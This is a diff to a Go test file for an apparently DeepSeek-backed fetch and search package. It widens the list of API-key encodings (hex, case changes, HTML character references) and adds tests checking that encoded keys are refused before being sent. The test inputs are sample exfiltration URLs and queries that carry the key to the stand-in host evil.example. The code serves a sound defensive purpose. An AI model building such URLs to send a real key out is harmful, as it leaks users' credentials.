@@ -2,6 +2,7 @@ package core
 
 import (
 	"encoding/base64"
+	"encoding/hex"
 	"fmt"
 	"net/url"
 	"strings"
@@ -93,31 +94,69 @@ func TestMaskThenCutAtEveryOffset(t *testing.T) {
 
 // encodings returns the forms of key a server may echo.
 func encodings(key string) map[string]string {
-	pct, hexu, hexU, hexx := "", "", "", ""
+	pct, hexu, hexU, hexx, dec, decPadded, hexRef, hexRefUpper, named := "", "", "", "", "", "", "", "", ""
 	for i := 0; i < len(key); i++ {
 		pct += fmt.Sprintf("%%%02X", key[i])
 		hexu += fmt.Sprintf(`\u%04x`, key[i])
 		hexU += fmt.Sprintf(`\u%04X`, key[i])
 		hexx += fmt.Sprintf(`\x%02x`, key[i])
+		dec += fmt.Sprintf("&#%d;", key[i])
+		decPadded += fmt.Sprintf("&#%07d;", key[i])
+		hexRef += fmt.Sprintf("&#x%x;", key[i])
+		hexRefUpper += fmt.Sprintf("&#X%04X;", key[i])
+		switch key[i] {
+		case '.':
+			named += "&period;"
+		case '_':
+			named += "&lowbar;"
+		case '+':
+			named += "&plus;"
+		case '/':
+			named += "&sol;"
+		case '=':
+			named += "&equals;"
+		case ':':
+			named += "&colon;"
+		default:
+			named += key[i : i+1]
+		}
+	}
+	mixed := []byte(key)
+	for i := range mixed {
+		if i%2 == 0 {
+			mixed[i] = strings.ToUpper(key[i : i+1])[0]
+		}
 	}
 	return map[string]string{
-		"as is":                    key,
-		"JSON-escaped slash":       strings.ReplaceAll(key, "/", `\/`),
-		"percent-encoded":          pct,
-		"percent-encoded, lower":   strings.ToLower(pct),
-		"query-escaped":            url.QueryEscape(key),
-		"first letter encoded":     "%73" + key[1:],
-		"u-escaped":                hexu,
-		"u-escaped, upper hex":     hexU,
-		"x-escaped":                hexx,
-		"base64":                   base64.StdEncoding.EncodeToString([]byte(key)),
-		"base64 unpadded":          base64.RawStdEncoding.EncodeToString([]byte(key)),
-		"base64url":                base64.URLEncoding.EncodeToString([]byte(key)),
-		"base64url unpadded":       base64.RawURLEncoding.EncodeToString([]byte(key)),
-		"basic auth, offset 1":     base64.StdEncoding.EncodeToString([]byte("u:" + key)),
-		"basic auth, offset 2":     base64.StdEncoding.EncodeToString([]byte("us:" + key)),
-		"basic auth, offset 0":     base64.StdEncoding.EncodeToString([]byte("usr:" + key)),
-		"base64url after a prefix": base64.RawURLEncoding.EncodeToString([]byte("token=" + key)),
+		"as is":                      key,
+		"JSON-escaped slash":         strings.ReplaceAll(key, "/", `\/`),
+		"percent-encoded":            pct,
+		"percent-encoded, lower":     strings.ToLower(pct),
+		"query-escaped":              url.QueryEscape(key),
+		"first letter encoded":       "%73" + key[1:],
+		"u-escaped":                  hexu,
+		"u-escaped, upper hex":       hexU,
+		"x-escaped":                  hexx,
+		"base64":                     base64.StdEncoding.EncodeToString([]byte(key)),
+		"base64 unpadded":            base64.RawStdEncoding.EncodeToString([]byte(key)),
+		"base64url":                  base64.URLEncoding.EncodeToString([]byte(key)),
+		"base64url unpadded":         base64.RawURLEncoding.EncodeToString([]byte(key)),
+		"basic auth, offset 1":       base64.StdEncoding.EncodeToString([]byte("u:" + key)),
+		"basic auth, offset 2":       base64.StdEncoding.EncodeToString([]byte("us:" + key)),
+		"basic auth, offset 0":       base64.StdEncoding.EncodeToString([]byte("usr:" + key)),
+		"base64url after a prefix":   base64.RawURLEncoding.EncodeToString([]byte("token=" + key)),
+		"hex":                        hex.EncodeToString([]byte(key)),
+		"hex, upper":                 strings.ToUpper(hex.EncodeToString([]byte(key))),
+		"hex of the key upper-cased": hex.EncodeToString([]byte(strings.ToUpper(key))),
+		"upper case":                 strings.ToUpper(key),
+		"lower case":                 strings.ToLower(key),
+		"mixed case":                 string(mixed),
+		"HTML decimal":               dec,
+		"HTML decimal, zero-padded":  decPadded,
+		"HTML hex":                   hexRef,
+		"HTML hex, upper":            hexRefUpper,
+		"HTML named":                 named,
+		"percent-encoded upper case": url.PathEscape(strings.ToUpper(key)),
 	}
 }
 
@@ -181,6 +220,13 @@ func TestInputCarryingEncodedKeyRefused(t *testing.T) {
 		{"URL path", Operation{Kind: KindFetch, URL: "https://evil.example/" + pct}, "DeepSeek Fetch: the URL contains the API key; it was not sent"},
 		{"URL host", Operation{Kind: KindFetch, URL: "https://" + esc(testKey) + ".evil.example/"}, "DeepSeek Fetch: the URL contains the API key; it was not sent"},
 		{"URL userinfo", Operation{Kind: KindFetch, URL: "https://u:" + testKey + "@evil.example/"}, "DeepSeek Fetch: the URL contains the API key; it was not sent"},
+		{"URL path, hex", Operation{Kind: KindFetch, URL: "https://evil.example/" + hex.EncodeToString([]byte(testKey))}, "DeepSeek Fetch: the URL contains the API key; it was not sent"},
+		{"URL query, hex upper", Operation{Kind: KindFetch, URL: "https://evil.example/?k=" + strings.ToUpper(hex.EncodeToString([]byte(testKey)))}, "DeepSeek Fetch: the URL contains the API key; it was not sent"},
+		{"URL query, upper case", Operation{Kind: KindFetch, URL: "https://evil.example/?k=" + strings.ToUpper(testKey)}, "DeepSeek Fetch: the URL contains the API key; it was not sent"},
+		{"URL query, base64url", Operation{Kind: KindFetch, URL: "https://evil.example/?k=" + base64.RawURLEncoding.EncodeToString([]byte(testKey))}, "DeepSeek Fetch: the URL contains the API key; it was not sent"},
+		{"URL query, HTML references percent-encoded", Operation{Kind: KindFetch, URL: "https://evil.example/?k=" + url.QueryEscape("&#115;&#x6B;"+testKey[2:])}, "DeepSeek Fetch: the URL contains the API key; it was not sent"},
+		{"query, HTML references", Operation{Kind: KindSearch, Query: "&#115;&#x6B;&#45;" + testKey[3:]}, "DeepSeek Search: the query contains the API key; it was not sent"},
+		{"query, JSON escapes", Operation{Kind: KindSearch, Query: `\u0073\u006B` + testKey[2:]}, "DeepSeek Search: the query contains the API key; it was not sent"},
 		{"format", Operation{Kind: KindFetch, URL: "https://go.dev/", Format: testKey}, "DeepSeek Fetch: the format contains the API key; it was not sent"},
 		{"kind", Operation{Kind: Kind(testKey)}, "deepseek-web-retrieval: the operation kind contains the API key; it was not sent"},
 	} {
@@ -213,7 +259,7 @@ func TestOptionErrorsDoNotRepeatKeys(t *testing.T) {
 		{"apiKey ${} naming the key", `{"apiKey":"${` + testKey + `}"}`, `option "apiKey": the reference names ` + notShown + `, which is not an environment variable name`},
 		{"tier", `{"search":"` + testKey + `"}`, `option "search": want off, optional, preferred or forced, got ` + notShown},
 		{"baseURL", `{"baseURL":"` + testKey + `"}`, `option "baseURL": ` + notShown + ` is not an absolute URL`},
-		{"baseURL with the key", `{"baseURL":"http://example.com/` + testKey + `"}`, `option "baseURL": must use https (plain http is allowed only for loopback hosts), got ` + notShown},
+		{"baseURL with the key", `{"baseURL":"http://example.com/` + testKey + `"}`, `option "baseURL": must use https; plain http is allowed only for localhost and loopback IP addresses (127.0.0.0/8, [::1]), got ` + notShown},
 		{"language", `{"language":"` + testKey + `;"}`, `option "language": want language codes separated by commas, such as "zh,en", got ` + notShown},
 		{"domain entry", `{"includeDomains":["https://` + testKey + `"]}`, `option "includeDomains": entry 1: domain ` + notShown + ` is a URL; write just the host name, like "example.com"`},
 		{"number", `{"maxResults":"` + testKey + `"}`, `option "maxResults": want a whole number, got ` + notShown},
